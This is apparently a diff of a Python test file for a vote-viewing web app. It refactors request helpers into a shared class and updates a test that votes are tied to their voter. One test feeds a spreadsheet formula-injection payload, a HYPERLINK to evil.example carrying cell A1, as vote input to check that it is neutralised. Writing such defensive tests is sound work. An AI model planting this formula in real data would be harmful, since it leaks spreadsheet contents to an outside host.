@@ -2,13 +2,13 @@
 
 import http.client
 import io
-import json
 import random
 import re
 import socket
 import threading
+from dataclasses import dataclass
 from pathlib import Path
-from typing import Any, NamedTuple
+from typing import Any
 from urllib.parse import quote
 
 import pytest
@@ -20,38 +20,18 @@ from app.catalog import Catalog
 from app.page import MAX_BODY_BYTES, MAX_LINE_LENGTH, ShortLines, guarded
 from app.votes import VoteStore
 from tests.app.folders import make_run, make_scores
+from tests.app.visitor import LOCAL, Visitor
 
-LOCAL = "127.0.0.1"
 EVIL = "http://evil.example"
 SECRET = "nobody may read this"
 
 
-class Served(NamedTuple):
+@dataclass(frozen=True)
+class Served(Visitor):
     """A viewer in this process: its port and root, and whom the process tried to reach."""
 
-    port: int
     root: Path
     calls: list[Any]
-
-    def ask(self, path, method="GET", body=None, **headers):
-        """The answer to a request whose path and headers are sent as they are."""
-        connection = http.client.HTTPConnection(LOCAL, self.port, timeout=30)
-        content = None if body is None else json.dumps(body)
-        headers = {"Content-Type": "application/json", **headers}
-        connection.request(method, path, content, headers)
-        return connection.getresponse()
-
-    def send(self, event, values, data=None):
-        """The server's answer to an event of a visitor."""
-        body = {"data": values, "fn_index": event, "event_data": data, "session_hash": "visitor"}
-        assert self.ask("/gradio_api/queue/join", "POST", body).status == 200
-        text = ""
-        for line in self.ask("/gradio_api/queue/data?session_hash=visitor"):
-            text += line.decode()
-            if "close_stream" in text:
-                break
-        assert text.count("process_completed") == 1
-        return text
 
 
 @pytest.fixture(scope="module")
@@ -106,14 +86,11 @@ def test_it_serves_no_file_tells_no_place_and_asks_nobody(served):
 
 
 def test_a_vote_is_of_the_voter_who_began(served):
-    config = json.load(served.ask("/config"))
-    names = {part["id"]: part["props"].get("elem_id") for part in config["components"]}
-    events = {names.get(event["targets"][0][0]): event for event in config["dependencies"]}
-
     def click(name, *values, data=None):
-        return served.send(events[name]["id"], values, data)
+        (event, _), *_ = served.events(name)[-1:]
+        return served.send(event, list(values), data)
 
-    served.send(events["frame-scores"]["id"], [None] * len(events["frame-scores"]["inputs"]))
+    served.send(*served.events("frame-scores")[-1])
     formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     for token in ("", "made up"):
         click("vote-left", token, None, formula)
